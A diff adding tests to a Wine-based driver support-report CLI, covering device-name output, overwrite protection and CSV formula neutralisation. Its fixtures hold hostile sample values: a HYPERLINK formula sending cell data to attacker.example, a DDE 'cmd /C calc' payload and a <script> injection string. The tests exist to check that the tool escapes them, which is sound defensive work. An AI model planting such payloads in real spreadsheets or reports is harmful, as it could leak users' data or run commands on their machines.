@@ -5,9 +5,10 @@
  */
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
-import { readFileSync, rmSync, statSync } from 'node:fs';
+import { copyFileSync, existsSync, mkdirSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
+import { root } from '../../scripts/prepare-wine';
 import { parse } from 'csv-parse/sync';
 import type { SupportReport } from '../../app/supportReport';
 import { runCli, type CliRun } from './cliRunner';
@@ -16,6 +17,9 @@ import { driveC, startBench, testPrefix, windowsPath, type Bench } from './wineB
 
 /** Registered parameters as a hostile or careless installer might write them. */
 const hostile = 'fixture.dll name=fx.hostile query=0 <script>alert("x")</script> a,b "c" & </td>';
+/** An alias and parameters that a spreadsheet would run as formulas. */
+const formulaAlias = '=HYPERLINK("http://attacker.example/?"&A1,"Details")';
+const formulaParameters = '+cmd|\' /C calc\'!A0 name=fx.formula';
 const drivers32 = 'HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Drivers32';
 
 describe('support reports', () => {
@@ -129,11 +133,83 @@ describe('support reports', () => {
     assert.match(html, /@media print/);
   });
 
+  it('writes to a device such as NUL as Windows means it, creating no file of that name', { timeout: 120_000 }, async () => {
+    const folder = join(dir, 'devices');
+    mkdirSync(folder, { recursive: true });
+    for (const out of ['NUL', 'nul.json', `${windowsPath(folder)}\\Nul.csv`]) {
+      const run = await cli('report', '--out', out);
+      assert.equal(run.status, 0, `${out}: ${run.stderr}`);
+    }
+    const named = (names: string[]): string[] => names.filter((name) => /^nul(\.|$)/i.test(name));
+    assert.deepEqual(named(readdirSync(root)), [], 'no file named NUL in the working folder');
+    assert.deepEqual(named(readdirSync(folder)), [], 'nor in the folder named with it');
+  });
+
+  it('writes no report over a file that is not one, such as a registered driver, unless --force says so', { timeout: 120_000 }, async () => {
+    const dll = join(driveC, 'windows', 'system32', 'fixture.dll');
+    const before = readFileSync(dll);
+    const refused = await cli('report', '--out', 'C:\\windows\\system32\\fixture.dll');
+    assert.equal(refused.status, 1, refused.stderr);
+    assert.match(refused.stdout, /C:\\windows\\system32\\fixture\.dll is not a report.*--force/);
+    assert.deepEqual(readFileSync(dll), before, 'the driver is unchanged');
+
+    const copy = join(dir, 'codec.dll');
+    copyFileSync(dll, copy);
+    const json = await cli('report', '--out', windowsPath(copy), '--json');
+    assert.equal(json.status, 1);
+    assert.equal((JSON.parse(json.stdout) as { error: { code: string } }).error.code, 'file-conflict');
+    assert.deepEqual(readFileSync(copy), before);
+    const forced = await cli('report', '--out', windowsPath(copy), '--force');
+    assert.equal(forced.status, 0, forced.stderr);
+    assert.ok((JSON.parse(readFileSync(copy, 'utf8')) as SupportReport).drivers.length > 0, 'the report replaced the file');
+  });
+
+  it('writes over a report it wrote earlier, in any format, without --force', { timeout: 120_000 }, async () => {
+    const file = join(dir, 'again.report');
+    for (const format of ['json', 'csv', 'html', 'json']) {
+      const run = await cli('report', '--format', format, '--out', windowsPath(file));
+      assert.equal(run.status, 0, `${format} over the last one: ${run.stdout}${run.stderr}`);
+    }
+    assert.ok((JSON.parse(readFileSync(file, 'utf8')) as SupportReport).drivers.length > 0);
+    writeFileSync(file, 'notes a person kept\r\n');
+    assert.equal((await cli('report', '--out', windowsPath(file))).status, 1, 'a file that is no longer a report is kept');
+    assert.equal(readFileSync(file, 'utf8'), 'notes a person kept\r\n');
+    assert.ok(!existsSync(join(root, 'NUL')));
+  });
+
   it('says what to do when the file cannot be written', { timeout: 60_000 }, async () => {
     const run = await cli('report', '--out', 'Z:\\no\\such\\folder\\r.json', '--json');
     assert.equal(run.status, 1);
     const error = (JSON.parse(run.stdout) as { error: { code: string; message: string } }).error;
     assert.equal(error.code, 'write-failed');
     assert.match(error.message, /Choose a folder that exists/);
+  });
+});
+
+describe('CSV reports opened in a spreadsheet', () => {
+  let bench: Bench | undefined;
+
+  before(async () => {
+    bench = await startBench();
+    registerFixtures(testPrefix, bench.env, { [formulaAlias]: 'fixture.dll name=fx.formula query=0', 'fx.formula': `fixture.dll ${formulaParameters}` });
+  });
+  after(() => {
+    if (bench) registerFixtures(testPrefix, bench.env);
+    bench?.stop();
+    rmSync(join(driveC, 'formulas.csv'), { force: true });
+    rmSync(join(driveC, 'formulas-state'), { recursive: true, force: true });
+  });
+
+  it('writes CSV that a spreadsheet does not run: cells that would start a formula begin with a single quote', { timeout: 60_000 }, async () => {
+    const file = join(driveC, 'formulas.csv');
+    const run = await runCli({ ...bench?.env, WINEPREFIX: testPrefix, DRIVERS_PANEL_STATE_DIR: windowsPath(join(driveC, 'formulas-state')) }, ['report', '--format', 'csv', '--out', windowsPath(file)]);
+    assert.equal(run.status, 0, run.stderr);
+    const rows: Array<Record<string, string>> = parse(readFileSync(file, 'utf8'), { columns: true });
+    assert.ok(rows.some((r) => r.alias === `'${formulaAlias}`), 'the alias is neutralised');
+    assert.equal(rows.find((r) => r.alias === 'fx.formula')?.parameters, `'${formulaParameters}`);
+    assert.equal(rows.find((r) => r.alias === 'vidc.cvid')?.DRV_QUERYCONFIGURE, '-1', 'a number stays a number');
+    for (const row of rows) {
+      for (const [field, value] of Object.entries(row)) assert.doesNotMatch(value, /^[=+@\t\r]|^-(?!\d+$)/, `${row.alias}: ${field}`);
+    }
   });
 });
